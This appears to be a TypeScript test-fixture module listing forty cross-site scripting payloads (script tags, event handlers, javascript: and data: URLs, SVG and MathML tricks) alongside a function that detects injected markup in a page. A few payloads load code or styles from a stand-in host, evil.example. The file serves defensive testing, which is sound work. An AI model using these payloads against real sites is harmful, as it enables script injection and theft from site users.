// Forty ways to slip a script into a page, and the look at a page that would find each of them.

export const scriptAttacks: readonly string[] = [
  `<script>alert(1)</script>`,
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</title><svg/onload=alert(1)>`,
  `</script><script>alert(1)//`,
  `</style><script>alert(1)</script>`,
  `</option></select><img src=x onerror=alert(1)>`,
  `</noscript><script>alert(1)</script>`,
  `--><script>alert(1)</script>`,
  `]]><script>alert(1)</script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script/src=//evil.example/x.js></script>`,
  `<script\u0000>alert(1)</script>`,
  `<<script>alert(1)//<</script>`,
  `<script>alert(String.fromCharCode(49))</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  `"><img src=x onerror="alert(1)">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=alert(1)></mtext></math>`,
  `<body onload=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="data:text/html,<script>alert(1)</script>">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `" autofocus onfocus="alert(1)`,
  `javascript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
];

/** All forty in one value, each on its own line, for places that show a value as it was entered. */
export const allAttacks = scriptAttacks.join("\n");
/** These do harm only where a value begins with them. */
export const addressAttacks = scriptAttacks.filter((attack) => /^(javascript|data):/.test(attack));

const tagsIn = (html: string) =>
  [...html.matchAll(/<[a-z!](?:"[^"]*"|'[^']*'|[^<>"'])*(?:>|$)/gi)].map(([tag]) => tag);
/** Handlers stand outside of what is quoted. */
const hasHandler = (tag: string) => /[\s/"']on\w+\s*=/i.test(tag.replace(/"[^"]*"|'[^']*'/g, '""'));
const addressed =
  /^[\s/"'](?:href|src|action|formaction|data|xlink:href|srcdoc|content)\s*=\s*["']?\s*(?:\d+;\s*url=)?\s*(?:javascript:|data:text|<|\/\/evil)/i;
/** A value may hold such words; only what follows the name of an attribute outside of quotes counts. */
const runsFrom = (tag: string) =>
  [...tag.matchAll(/[\s/"'][\w:-]+\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+)/g)].some(([attribute]) =>
    addressed.test(attribute),
  );
const isForeign = (tag: string) =>
  /^<(?:iframe|object|embed|base|math|video|source|details open)/i.test(tag);

/** What in a page's markup came from outside: tags that we never write, handlers, addresses that run. */
export function scriptsIn(html: string): string[] {
  const odd = tagsIn(html).filter((tag) => hasHandler(tag) || runsFrom(tag) || isForeign(tag));
  const scripts = [...html.matchAll(/<script[^a-z][^<]*/gi)]
    .map(([script]) => script)
    .filter((script) => /alert\(|evil\.example/.test(script));
  return [...odd, ...scripts];
}
